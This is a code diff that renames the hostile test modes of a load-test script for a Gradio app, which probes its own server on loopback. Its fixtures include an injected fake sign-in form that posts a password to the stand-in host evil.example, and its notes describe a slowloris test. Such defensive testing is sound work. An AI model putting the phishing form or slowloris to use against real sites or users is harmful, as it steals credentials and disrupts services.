@@ -41,9 +41,9 @@ assets/load/hostile.json).
 
     OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile
 
-Then the round-four attacks of issue 37 (under "round_four"; `--hostile --round-four` runs only these
-and keeps the file's other keys; `--tiny` is a dry run with tiny counts). Loopback addresses only:
-the script is 127.0.0.1, a visitor 127.0.0.2 (the server reads real peer addresses here):
+Then the attacks through the page's own ways in (issue 37; under "page_attacks"; `--hostile --page-attacks`
+runs only these and keeps the file's other keys; `--tiny` is a dry run with tiny counts). Loopback
+addresses only: the script is 127.0.0.1, a visitor 127.0.0.2 (the server reads real peer addresses here):
   share links      four hostile links (a parameter name that is a <form> with a password input, a
                    position:fixed anchor, `[text](url)`, HTML in a value) through the page's own load
                    event: '<form', '<input', 'href=' in the status line it returns, the elements a
@@ -63,17 +63,17 @@ the script is 127.0.0.1, a visitor 127.0.0.2 (the server reads real peer address
   half-sent requests  200 sockets that send a request line and one header line a second, never ending
                    their headers (slowloris), and a visitor loading the page meanwhile: when the server
                    closed each (target: all, within its 30 s read deadline + 5 s) and the visitor's page
-  memory           the server's RSS when the round starts and 10 s after it ends
+  memory           the server's RSS when the attacks start and 10 s after they end
 
-    OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --round-four
+    OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --page-attacks
 
-Then issue 54's round five (under "round_five"; `--hostile --round-five` runs only it and keeps the
-file's other keys): a line of 100,000 spaces at the MR-feedback and task-switch events while another
-client loads /config, the over-cost E2E job at 3x/4x/3x/4x, an unknown task on the hidden events, and
+Then the hostile page events of issue 54 (under "event_fuzz"; `--hostile --event-fuzz` runs only them and
+keeps the file's other keys): a line of 100,000 spaces at the MR-feedback and task-switch events while
+another client loads /config, the over-cost E2E job at 3x/4x/3x/4x, an unknown task on the hidden events, and
 a seeded fuzz of every page event and the API for --fuzz-seconds (default 60; 600 for the issue's ten
-minutes), with the server's tracebacks: scripts/round_five.py says what each measures.
+minutes), with the server's tracebacks: scripts/hostile_events.py says what each measures.
 
-    HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --round-five --fuzz-seconds 600
+    HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --event-fuzz --fuzz-seconds 600
 
 --stream-overhead times the 256-token job (the costliest the cap admits: its prompt sized to the cap,
 run to its full length) through the launched server (gradio_client, submit to the last message)
@@ -690,7 +690,7 @@ def preview_storm(url: str, observations: Observations, loops: int = 4) -> dict:
             "first_message_s_alone": alone["first_message_s"], "first_message_s_during": during["first_message_s"]}
 
 
-# --- round four (issue 37): share links, invented sessions, job cost, step mode, NaN -------------
+# --- the page attacks (issue 37): share links, invented sessions, job cost, step mode, NaN -------
 HOSTILE_LINKS = {  # the issue's share links, each an unknown parameter NAME or a bad VALUE
     "form_as_name": {'<form action="http://evil.example/s"><p>Your session expired. Sign in</p>'
                      '<input type="password" name="pw"><button>Sign in</button></form>': "1"},
@@ -1149,8 +1149,8 @@ def cpu_flags() -> list[str]:
     return sorted({"avx2", "avx512f", "avx512_vnni"} & set(flags))
 
 
-def round_four(url: str, process: psutil.Process | None, args: argparse.Namespace) -> dict:
-    """The round-four attacks of issue 37, each through the launched app on loopback."""
+def page_attacks(url: str, process: psutil.Process | None, args: argparse.Namespace) -> dict:
+    """The attacks through the page's own ways in (issue 37), each through the launched app on loopback."""
     tiny = args.tiny
     load_before = [round(x, 2) for x in os.getloadavg()]
     started = time.time()
@@ -1223,72 +1223,72 @@ def run_hostile(url: str, server: subprocess.Popen | None, args: argparse.Namesp
         "server_stderr": log.report(),
         "seconds": round(time.time() - started, 1),
     }
-    report["round_four"] = round_four(url, process, args)
-    report["round_five"] = run_round_five_probes(url, log, args.fuzz_seconds)
-    report["targets_missed"] = (missed_targets(report) + missed_round_four(report["round_four"])
-                                + report["round_five"]["targets_missed"])
+    report["page_attacks"] = page_attacks(url, process, args)
+    report["event_fuzz"] = run_event_fuzz(url, log, args.fuzz_seconds)
+    report["targets_missed"] = (missed_targets(report) + missed_page_attacks(report["page_attacks"])
+                                + report["event_fuzz"]["targets_missed"])
     print(json.dumps(report, indent=2))
     Path(args.json or HOSTILE_JSON).write_text(json.dumps(report, indent=2) + "\n")
     return 1 if report["targets_missed"] else 0
 
 
-def run_round_four(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
-    """Only the round-four attacks; their figures go under "round_four" of the JSON, its other keys kept
+def run_page_attacks(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
+    """Only the page attacks; their figures go under "page_attacks" of the JSON, its other keys kept
     (--tiny: a dry run with tiny counts, written only where --json says)."""
     process = psutil.Process(server.pid) if server else None
     log = ServerLog(server)
     Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
     time.sleep(2)
-    report = round_four(url, process, args)
+    report = page_attacks(url, process, args)
     report["server_stderr"] = log.report()
-    report["targets_missed"] = missed_round_four(report)
+    report["targets_missed"] = missed_page_attacks(report)
     print(json.dumps(report, indent=2))
     path = Path(args.json) if args.json else (None if args.tiny else HOSTILE_JSON)
     if path is not None:
         existing = json.loads(path.read_text()) if path.exists() else {}
-        path.write_text(json.dumps(existing | {"round_four": report}, indent=2) + "\n")
+        path.write_text(json.dumps(existing | {"page_attacks": report}, indent=2) + "\n")
     return 1 if report["targets_missed"] else 0
 
 
-def round_five_module():
-    """scripts/round_five.py (also imported by the tests), loaded by path: this file runs as a script."""
+def hostile_events_module():
+    """scripts/hostile_events.py (also imported by the tests), loaded by path: this file runs as a script."""
     import importlib.util
 
-    spec = importlib.util.spec_from_file_location("round_five", Path(__file__).with_name("round_five.py"))
+    spec = importlib.util.spec_from_file_location("hostile_events", Path(__file__).with_name("hostile_events.py"))
     module = importlib.util.module_from_spec(spec)
     sys.modules[spec.name] = module  # its dataclasses look their module up
     spec.loader.exec_module(module)
     return module
 
 
-def run_round_five_probes(url: str, log: ServerLog, fuzz_seconds: float) -> dict:
-    """Issue 54's probes and fuzz; the server's tracebacks while they ran (target 0)."""
-    script = round_five_module()
+def run_event_fuzz(url: str, log: ServerLog, fuzz_seconds: float) -> dict:
+    """The hostile page events' probes and fuzz (issue 54); the server's tracebacks while they ran (target 0)."""
+    script = hostile_events_module()
     tracebacks_before = log.tracebacks
     report = {"command": command_line(), "date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
               "hardware": {**hardware(), "cpu_flags": cpu_flags()}, "load_average_before": os.getloadavg()[0],
-              **script.round_five(url, fuzz_seconds)}
+              **script.probe_and_fuzz(url, fuzz_seconds)}
     report["server_tracebacks"] = log.tracebacks - tracebacks_before
     report["targets_missed"] = script.missed(report) + (
         [f"{report['server_tracebacks']} tracebacks in the server's log"] if report["server_tracebacks"] else [])
     return report
 
 
-def run_round_five(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
-    """Only round five; written under "round_five" of the JSON, its other keys kept."""
+def run_event_fuzz_only(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
+    """Only the hostile page events; written under "event_fuzz" of the JSON, its other keys kept."""
     log = ServerLog(server)
     Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
-    report = run_round_five_probes(url, log, args.fuzz_seconds)
+    report = run_event_fuzz(url, log, args.fuzz_seconds)
     report["server_stderr"] = log.report()
     print(json.dumps(report, indent=2))
     path = Path(args.json) if args.json else HOSTILE_JSON
     existing = json.loads(path.read_text()) if path.exists() else {}
-    path.write_text(json.dumps(existing | {"round_five": report}, indent=2) + "\n")
+    path.write_text(json.dumps(existing | {"event_fuzz": report}, indent=2) + "\n")
     return 1 if report["targets_missed"] else 0
 
 
-def missed_round_four(report: dict) -> list[str]:
-    """The round-four targets this run missed, in words."""
+def missed_page_attacks(report: dict) -> list[str]:
+    """The page attacks' targets this run missed, in words."""
     missed = []
     links = report["share_links"]
     if links["tags_or_links_surviving"] or links["pages_missing_a_header"]:
@@ -1301,7 +1301,7 @@ def missed_round_four(report: dict) -> list[str]:
     cost = report["job_cost"]
     if not cost["gradio_client_refused"] or cost["rest_status"] != 422:
         missed.append(f"the issue's job was not refused (REST {cost['rest_status']})")
-    # The promise is the lane's hold on a quiet CPU (scripts/calibrate_job_cost.py); through this loopback
+    # The promise is the lane's hold on a quiet CPU (lab/serving/calibrate_job_cost.py); through this loopback
     # server the load test's own client and gradio's streaming share the two cores with torch's two
     # threads, which measured up to 2.2x the in-lane time: 2.5x is the bound a regression must cross.
     if (cost["worst_admitted_wall_s"] or 0) > 2.5 * cost["promised_s"]:
@@ -1443,12 +1443,15 @@ def main() -> int:
                                                      "assets/load/hostile.json)")
     parser.add_argument("--hostile", action="store_true", help="run the bounded hostile mix instead")
     parser.add_argument("--prompt-words", type=int, default=1500, help="--hostile: words in a long prompt")
-    parser.add_argument("--round-four", action="store_true",
-                        help="--hostile: only the round-four attacks (issue 37), written under \"round_four\"")
-    parser.add_argument("--round-five", action="store_true",
-                        help="--hostile: only round five (issue 54), written under \"round_five\"")
-    parser.add_argument("--fuzz-seconds", type=float, default=60.0, help="--hostile: round five's fuzz")
-    parser.add_argument("--tiny", action="store_true", help="--round-four: a dry run with tiny counts (writes "
+    parser.add_argument("--page-attacks", action="store_true",
+                        help="--hostile: only the attacks through the page's ways in (share links, invented "
+                             "sessions, job cost, step mode, bad numbers, half-sent requests), written under "
+                             "\"page_attacks\"")
+    parser.add_argument("--event-fuzz", action="store_true",
+                        help="--hostile: only the hostile page events (oversized inputs, over-cost and unknown "
+                             "tasks, a seeded fuzz of every event), written under \"event_fuzz\"")
+    parser.add_argument("--fuzz-seconds", type=float, default=60.0, help="--hostile: the events' fuzz")
+    parser.add_argument("--tiny", action="store_true", help="--page-attacks: a dry run with tiny counts (writes "
                                                             "only to --json)")
     parser.add_argument("--max-job-cost", type=int, default=int(os.environ.get("SKIPDECODE_MAX_JOB_COST", server_job_cost().DEFAULT_MAX_JOB_COST)),
                         help="--hostile: the server's job cost cap (the costliest admitted jobs are sized to it)")
@@ -1464,8 +1467,8 @@ def main() -> int:
     args = parser.parse_args()
     if not 1 <= args.clients <= 64 or not 1 <= args.duration <= 1800:
         raise SystemExit("--clients must be 1..64 and --duration 1..1800 s (the test is bounded)")
-    if (args.round_four or args.round_five or args.tiny) and not args.hostile:
-        raise SystemExit("--round-four, --round-five and --tiny go with --hostile")
+    if (args.page_attacks or args.event_fuzz or args.tiny) and not args.hostile:
+        raise SystemExit("--page-attacks, --event-fuzz and --tiny go with --hostile")
     if not 1 <= args.prompt_words <= 1900:
         raise SystemExit("--prompt-words must be 1..1900 (the app's prompt limits: 8000 characters, 2048 tokens)")
 
@@ -1481,10 +1484,10 @@ def main() -> int:
     try:
         if args.stream_overhead:
             return run_stream_overhead(url, server, args)
-        if args.hostile and args.round_five:
-            return run_round_five(url, server, args)
-        if args.hostile and args.round_four:
-            return run_round_four(url, server, args)
+        if args.hostile and args.event_fuzz:
+            return run_event_fuzz_only(url, server, args)
+        if args.hostile and args.page_attacks:
+            return run_page_attacks(url, server, args)
         return run_hostile(url, server, args) if args.hostile else run_normal(url, process, args)
     finally:
         if server is not None:
